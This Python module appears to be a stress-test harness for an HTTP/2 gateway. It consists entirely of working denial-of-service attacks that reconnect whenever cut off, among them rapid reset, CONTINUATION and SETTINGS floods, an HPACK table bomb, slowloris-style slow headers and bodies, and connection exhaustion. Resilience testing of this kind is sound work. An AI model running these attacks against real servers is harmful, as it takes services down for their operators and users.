"""The attacks. Each is a coroutine that harms the gateway at `address` until its process ends, and comes again if it is
cut off."""

import asyncio
import collections
import socket

from http2 import (
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HEALTH_WATCH, LIST, PING, PREFACE, PRIORITY,
    REFLECTION, RST_STREAM, SETTINGS, WATCH, Peer, frame, header, header_frames, list_message, message, request_block,
    settings, text, watch_message, window_update,
)

MIB = 1 << 20
KINDS = {}


def attack(title):
    def add(kind):
        KINDS[kind.__name__] = (title, kind)
        return kind
    return add


class Counts(collections.Counter):
    """What the attacker saw: connections, connections that were closed, streams that were reset or refused."""


async def many(count, one, *arguments):
    await asyncio.gather(*(one(*arguments) for _ in range(count)))


async def again(counts, once):
    """Makes a connection and holds it, again and again."""
    while True:
        counts["connections"] += 1
        try:
            await once()
        except OSError:
            pass
        counts["closed"] += 1
        # A port may be closed, too.
        await asyncio.sleep(0.1)


async def hold(peer, counts, streams):
    """Waits until the connection is closed or every stream has ended."""
    while not peer.closed:
        peer.changed.clear()
        await peer.changed.wait()
        done = peer.reset | peer.ended
        if streams and streams <= done:
            break
    counts["streams reset"] += len(peer.reset)
    counts["streams ended"] += len(peer.ended)
    peer.close()


async def half_sent(address, counts, path, connections, streams, announced):
    """Streams whose message lacks its last byte."""
    body = message(bytes(announced - 1), announced)

    async def once():
        peer = await Peer.connect(address)
        numbers = [peer.open(path) for _ in range(streams)]
        await asyncio.gather(*(peer.upload(number, body) for number in numbers))
        await hold(peer, counts, set(numbers))

    await many(connections, again, counts, once)


@attack("1,000 Lists of 1 MiB without the last byte")
async def half_lists(address, counts):
    await half_sent(address, counts, LIST, 20, 50, MIB - 5)


@attack("200 reflection streams of 4 MiB without the last byte")
async def half_reflections(address, counts):
    await half_sent(address, counts, REFLECTION, 10, 20, 4 * MIB)


@attack("9,000 answers of 100 KiB that are not read")
async def unread_answers(address, counts):
    async def once():
        peer = await Peer.connect(address, window=0)
        numbers = [peer.open(LIST, body=list_message(500)) for _ in range(100)]
        await hold(peer, counts, set(numbers))

    await many(90, again, counts, once)


@attack("100, then 1,000 calls cancelled at once beside a watch, on 10 connections")
async def cancelled(address, counts):
    async def once():
        peer = await Peer.connect(address)
        peer.open(WATCH, body=watch_message("ami-00000000000000000", 3600))
        while not peer.closed:
            for count in (100, 1_000):
                for _ in range(count):
                    stream = peer.open(LIST, body=list_message(1))
                    peer.send(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")))
                    del peer.rooms[stream]
                counts["cancelled"] += count
                await asyncio.sleep(0.5)

    await many(10, again, counts, once)


@attack("10,000 connections that say nothing")
async def silent(address, counts):
    gate = asyncio.Semaphore(200)
    host, port = address.split(":")

    async def once():
        async with gate:
            reader, writer = await asyncio.open_connection(host, int(port))
        try:
            await reader.read()
        finally:
            writer.transport.abort()

    await many(10_000, again, counts, once)


@attack("10,000 connections that send HTTP/2's preface and nothing else")
async def idle(address, counts):
    gate = asyncio.Semaphore(200)
    host, port = address.split(":")

    async def once():
        async with gate:
            reader, writer = await asyncio.open_connection(host, int(port))
            writer.write(PREFACE + settings())
        try:
            await reader.read()
        finally:
            writer.transport.abort()

    await many(10_000, again, counts, once)


@attack("slow bodies: 2,000 Lists of a byte a second")
async def slow_bodies(address, counts):
    async def once():
        peer = await Peer.connect(address)
        numbers = [peer.open(LIST) for _ in range(100)]
        for number in numbers:
            peer.send(frame(DATA, 0, number, message(announced=MIB)))
        while not peer.closed:
            await asyncio.sleep(1)
            gone = peer.reset | peer.ended
            counts["streams ended"] += len(gone & set(numbers))
            numbers = [peer.open(LIST) if number in gone else number for number in numbers]
            for number in numbers:
                peer.send(frame(DATA, 0, number, b"\x00"))

    await many(20, again, counts, once)


@attack("slow readers: 2,000 answers of 100 KiB, 10 bytes of each a second")
async def slow_readers(address, counts):
    async def once():
        peer = await Peer.connect(address, window=0)
        numbers = {peer.open(LIST, body=list_message(500)) for _ in range(100)}
        while not peer.closed and numbers - peer.reset:
            await asyncio.sleep(1)
            for number in numbers - peer.reset - peer.ended:
                peer.send(window_update(number, 10))
        counts["streams reset"] += len(peer.reset)
        peer.close()

    await many(20, again, counts, once)


@attack("200 connections that ask for answers and read nothing from the socket")
async def unread_sockets(address, counts):
    host, port = address.split(":")
    loop = asyncio.get_running_loop()

    async def once():
        peer = socket.socket()
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        peer.setblocking(False)
        await loop.sock_connect(peer, (host, int(port)))
        try:
            await loop.sock_sendall(peer, PREFACE + settings(initial_window_size=1 << 30) + window_update(0, 1 << 30))
            for number in range(1, 2_000, 2):
                call = header_frames(number, request_block(LIST)) + frame(DATA, END_STREAM, number, list_message(500))
                await asyncio.wait_for(loop.sock_sendall(peer, call), 5)
            counts["all asked"] += 1
            while True:
                await asyncio.wait_for(loop.sock_sendall(peer, frame(PING, 0, 0, bytes(8))), 90)
                await asyncio.sleep(1)
        except asyncio.TimeoutError:
            await asyncio.sleep(90)
        finally:
            peer.close()

    await many(200, again, counts, once)


@attack("10,000 health watches")
async def health_watches(address, counts):
    async def once():
        peer = await Peer.connect(address)
        numbers = {peer.open(HEALTH_WATCH, body=message()) for _ in range(1_000)}
        await hold(peer, counts, numbers)

    await many(10, again, counts, once)


@attack("10,000 reflection streams that ask nothing")
async def reflections(address, counts):
    async def once():
        peer = await Peer.connect(address)
        numbers = {peer.open(REFLECTION) for _ in range(1_000)}
        for number in numbers:
            peer.send(frame(DATA, 0, number, message(announced=4_000) + bytes(3_999)))
        await hold(peer, counts, numbers)

    await many(10, again, counts, once)


@attack("100 bodies of HTTP/1.1 without an end")
async def http1(address, counts):
    host, port = address.split(":")

    async def once():
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(b"POST / HTTP/1.1\r\nHost: gateway\r\nContent-Length: 1000000000\r\n\r\n")
        try:
            while not reader.at_eof():
                writer.write(bytes(MAX_CHUNK))
                await asyncio.wait_for(writer.drain(), 60)
        finally:
            writer.transport.abort()

    await many(100, again, counts, once)


@attack("slow headers of HTTP/1.1: 1,000 connections, a byte a second")
async def http1_headers(address, counts):
    host, port = address.split(":")

    async def once():
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(b"GET / HTTP/1.1\r\nHost: gateway\r\nX: " + bytes(1_000).replace(b"\0", b"x"))
        read = asyncio.create_task(reader.read())
        while not read.done():
            writer.write(b"x")
            await asyncio.sleep(1)
        writer.transport.abort()

    await many(1_000, again, counts, once)


MAX_CHUNK = 65_536


async def flood(address, counts, chunk, connections=4, begin=b""):
    """Sends what `chunk(number)` returns, as fast as the gateway takes it. What comes back is read."""
    host, port = address.split(":")

    async def once():
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(PREFACE + settings() + begin)

        async def read():
            while await reader.read(1 << 16):
                pass

        reading = asyncio.create_task(read())
        number = 0
        try:
            while not reading.done():
                data, frames = chunk(number)
                writer.write(data)
                await writer.drain()
                counts["frames"] += frames
                number += 1
                await asyncio.sleep(0)
        finally:
            reading.cancel()
            writer.transport.abort()

    await many(connections, again, counts, once)


def same(data, frames):
    return lambda _: (data, frames)


def opened(number, count):
    """Numbers of the next streams of a connection."""
    return range(2 * count * number + 1, 2 * count * (number + 1), 2)


@attack("headers of 64 KiB")
async def large_headers(address, counts):
    block = request_block(LIST, *(header(f"x-{number}", bytes(8_000).replace(b"\0", b"x")) for number in range(8)))

    def chunk(number):
        return b"".join(header_frames(stream, block, END_STREAM) for stream in opened(number, 4)), 20

    await flood(address, counts, chunk)


@attack("headers of 1 MiB")
async def huge_headers(address, counts):
    block = request_block(LIST, *(header(f"x-{number}", bytes(16_000).replace(b"\0", b"x")) for number in range(64)))

    def chunk(number):
        return b"".join(header_frames(stream, block, END_STREAM) for stream in opened(number, 1)), 65

    await flood(address, counts, chunk)


@attack("CONTINUATION flood")
async def continuations(address, counts):
    part = frame(CONTINUATION, 0, 1, header("x", "y") * 100)
    await flood(address, counts, same(part * 40, 40), begin=frame(HEADERS, 0, 1, request_block(LIST)))


@attack("CONTINUATION flood of empty frames")
async def empty_continuations(address, counts):
    await flood(address, counts, same(frame(CONTINUATION, 0, 1) * 2_000, 2_000),
                begin=frame(HEADERS, 0, 1, request_block(LIST)))


@attack("headers that HPACK's table multiplies by 4,000")
async def hpack_bomb(address, counts):
    entry = b"\x40" + text(b"x") + text(bytes(4_000).replace(b"\0", b"x"))
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(LIST) + entry)

    def chunk(number):
        block = request_block(LIST) + b"\xbe" * 16_000
        return b"".join(header_frames(stream + 2, block, END_STREAM) for stream in opened(number, 4)), 4

    await flood(address, counts, chunk, begin=first)


@attack("rapid reset")
async def rapid_reset(address, counts):
    def chunk(number):
        calls = [frame(HEADERS, END_HEADERS, stream, request_block(LIST))
                 + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")) for stream in opened(number, 500)]
        return b"".join(calls), 1_000

    await flood(address, counts, chunk)


@attack("rapid reset of whole Lists")
async def rapid_reset_of_lists(address, counts):
    def chunk(number):
        calls = [frame(HEADERS, END_HEADERS, stream, request_block(LIST))
                 + frame(DATA, END_STREAM, stream, list_message(500))
                 + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")) for stream in opened(number, 200)]
        return b"".join(calls), 600

    await flood(address, counts, chunk)


@attack("SETTINGS flood")
async def settings_flood(address, counts):
    await flood(address, counts, same(frame(SETTINGS, 0, 0) * 2_000, 2_000))


@attack("SETTINGS flood that changes the windows of 1,000 open streams")
async def settings_of_windows(address, counts):
    calls = b"".join(frame(HEADERS, END_HEADERS, stream, request_block(LIST)) for stream in range(1, 2_000, 2))
    change = settings(initial_window_size=1_000) + settings(initial_window_size=2_000)
    await flood(address, counts, same(change * 100, 200), begin=calls)


@attack("PING flood")
async def pings(address, counts):
    await flood(address, counts, same(frame(PING, 0, 0, bytes(8)) * 2_000, 2_000))


@attack("flood of frames that mean nothing: PRIORITY, unknown types, WINDOW_UPDATE")
async def empty_frames(address, counts):
    idle_frames = frame(PRIORITY, 0, 1, bytes([0, 0, 0, 3, 1])) + frame(99, 0, 0, b"") + window_update(0, 1)
    await flood(address, counts, same(idle_frames * 700, 2_100))


@attack("flood of empty DATA frames")
async def empty_data(address, counts):
    await flood(address, counts, same(frame(DATA, 0, 1) * 2_000, 2_000),
                begin=frame(HEADERS, END_HEADERS, 1, request_block(LIST)))


@attack("trailers of 1 MiB")
async def trailers(address, counts):
    block = b"".join(header(f"x-{number}", bytes(16_000).replace(b"\0", b"x")) for number in range(64))

    def chunk(number):
        calls = [header_frames(stream, request_block(LIST)) + frame(DATA, 0, stream, list_message(1))
                 + header_frames(stream, block, END_STREAM) for stream in opened(number, 1)]
        return b"".join(calls), 67

    await flood(address, counts, chunk)
